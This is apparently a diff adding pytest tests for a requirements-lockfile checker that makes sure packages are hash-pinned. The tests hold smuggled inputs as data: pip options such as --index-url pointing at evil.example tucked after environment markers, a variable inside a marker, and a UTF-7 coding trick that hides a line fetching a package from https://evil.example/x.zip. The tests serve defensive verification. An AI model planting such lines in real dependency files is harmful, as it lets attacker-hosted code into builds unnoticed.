@@ -115,3 +115,24 @@ def test_whatever_comes_it_is_pinned_or_told(text: str) -> None:
         return
     assert all(pin.hashes for pin in pins)
     assert pins
+
+
+@pytest.mark.parametrize(
+    "option", ["--config-settings=x=y", "--global-option=build", "--index-url=https://evil.example"]
+)
+def test_attack_an_option_does_not_hide_in_a_marker(option: str) -> None:
+    assert "not pinned" in problems(f'six==1.16.0 ; python_version > "3" {option} --hash={H}\n')[0]
+
+
+def test_attack_a_variable_in_a_marker_is_not_taken_since_pip_would_put_in_its_value() -> None:
+    assert "not pinned" in problems(f"six==1.16.0 ; ${{MARKER}} --hash={H}\n")[0]
+
+
+@pytest.mark.parametrize("first", ["# -*- coding: utf-7 -*-\n", "\n#vim: coding=utf_7\n"])
+def test_attack_a_line_that_only_pip_sees_because_it_decodes_the_file_otherwise(first: str) -> None:
+    assert b"+AAo-".decode("utf-7") == "\n"
+    assert "encoding" in problems(f"{first}# +AAo-evil @ https://evil.example/x.zip\nsix==1.16.0 --hash={H}\n")[0]
+
+
+def test_a_declared_utf_8_is_fine() -> None:
+    assert check_lockfile(f"# coding: UTF-8\nsix==1.16.0 --hash={H}\n")
